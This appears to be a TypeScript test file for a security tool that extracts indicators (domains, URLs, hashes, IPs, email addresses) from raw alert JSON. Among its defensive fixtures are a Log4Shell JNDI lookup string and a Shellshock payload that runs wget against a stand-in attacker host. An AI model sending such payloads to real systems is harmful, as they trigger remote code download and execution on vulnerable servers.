import type { Json } from '#contracts';
import { alertObservables } from './extract.ts';

const found = (raw: Json) =>
  alertObservables({ observables: [], title: '', description: '', raw }).observables.map(
    (o) => `${o.type} ${o.value}`,
  );
const MD5 = '9e107d9d372bb6826bd81d3542a419d6';
const SHA1 = 'b378358365ff3d22e9c1a72fecf4605ddff76b47';
const SHA256 = '1b'.repeat(31) + '2c';

describe('what a key says of its value', () => {
  it.each<[string, Json]>([
    [
      'a user agent, with what is below it',
      { user_agent: { original: 'curl/8.1.2.3 (+http://bot.example.com/)' } },
    ],
    ['a user agent in one word', { useragent: 'Mozilla/5.0 Chrome/124.0.0.0' }],
    [
      'a user agent by a name beside it',
      { ExtendedProperties: [{ Name: 'UserAgent', Value: 'X 124.0.0.0' }] },
    ],
    [
      'who wrote the program',
      { userAgent: 'x/1.7 (https://a.evil.com)', ua: 'Bot (x; B/2.0; http://b.evil.com/b)' },
    ],
    ['what a sender calls himself', { from: { display: 'ceo@corp.example of corp.example' } }],
    ['versions', { agentVersion: '10.2.3.4', version: '9.9.9.9', product: { ver: '8.8.4.4' } }],
    [
      'a message id',
      { message_id: '<1@mta.evil.com>', 'In-Reply-To': 'a@b.evil.com', internetMessageId: 'x@evil.com' },
    ],
    [
      'ids of hexadecimal digits',
      { aid: MD5, requestId: MD5, threat_id: MD5, p_row_id: MD5, commit: { sha: SHA1 } },
    ],
    [
      'hashes of other things',
      { imphash: MD5, ja3: MD5, authentihash: SHA256, IncidentHash: MD5, dtHash: SHA256 },
    ],
    ['a hash of something else below its name', { ja3: { hash: MD5 }, tls: { ja3s: { md5: MD5 } } }],
    [
      'a schema',
      { $schema: 'https://evil.com/s.json', '@odata.type': '#evil.com', xmlns: 'http://evil.com/ns' },
    ],
    [
      'documents',
      {
        references: ['https://evil.com/doc'],
        remediation: { text: 'see evil.com' },
        runbook_url: 'http://evil.com/',
      },
    ],
    [
      "the vendor's page",
      {
        alert_url: 'https://evil.com/1',
        incident: { url: 'https://evil.com/2' },
        permalink: 'http://evil.com/',
      },
    ],
    [
      'names of services and operations',
      { eventSource: 'mail.evil.com', operationName: 'a.evil.com', type: 'evil.com' },
    ],
    ['names of files', { file_name: 'evil.com', Image: 'C:\\x\\evil.com', process_name: 'evil.com' }],
    ['names of people', { user: 'john.de', login_name: 'maria.it' }],
    ['networks and masks', { cidr: '198.51.100.0/24', netmask: '255.255.255.0' }],
    ['hardware addresses', { mac: '00:11:22:33:44:55:66:77' }],
    ['times', { created_at: '1.2.3.4', eventTime: 'evil.com' }],
  ])('%s: nothing', (_what, raw) => expect(found(raw)).toEqual([]));

  it.each<[string, Json, string[]]>([
    ['an attack in a user agent', { userAgent: '${jndi:ldap://a.evil.com/x}' }, ['domain a.evil.com']],
    [
      'a command in a user agent',
      { ua: '() { :; }; wget http://a.evil.com/x' },
      ['url http://a.evil.com/x', 'domain a.evil.com'],
    ],
    [
      'a bare hash by its key',
      { md5: MD5, file_hash: SHA1, value: SHA256 },
      [`md5 ${MD5}`, `sha1 ${SHA1}`, `sha256 ${SHA256}`],
    ],
    ['a hash by its kind beside it', { h: { algorithm: 'MD5', value: MD5 } }, [`md5 ${MD5}`]],
    ['a hash that is all of a description', { secondaryDescription: SHA1 }, [`sha1 ${SHA1}`]],
    [
      'a domain of the own network',
      { domain: 'CORP.local', QueryName: 'a.b.internal' },
      ['domain corp.local', 'domain a.b.internal'],
    ],
    ['a user whose id is an address', { user: { id: 'bob@evil.com' } }, ['email_address bob@evil.com']],
    [
      'a link that was visited',
      { url: 'https://evil.com/x', request: { url: 'http://b.evil.com/' } },
      ['url https://evil.com/x', 'domain evil.com', 'url http://b.evil.com/', 'domain b.evil.com'],
    ],
    ['an address', { sourceIPAddress: '9.1.2.3' }, ['ip 9.1.2.3']],
  ])('%s is found', (_what, raw, expected) => expect(found(raw)).toEqual(expected));

  it('that stands elsewhere in the alert: what is an id is no hash, unless a key says MD5', () => {
    expect(found({ aid: MD5, any_hashes: [MD5] })).toEqual([]);
    expect(found({ any_hashes: [MD5], aid: MD5 })).toEqual([]);
    expect(found({ file_id: MD5, md5: MD5 })).toEqual([`md5 ${MD5}`]);
    const observables = [{ type: 'md5' as const, value: MD5 }];
    expect(alertObservables({ observables, title: '', description: '', raw: { id: MD5 } }).found).toBe(1);
  });
});
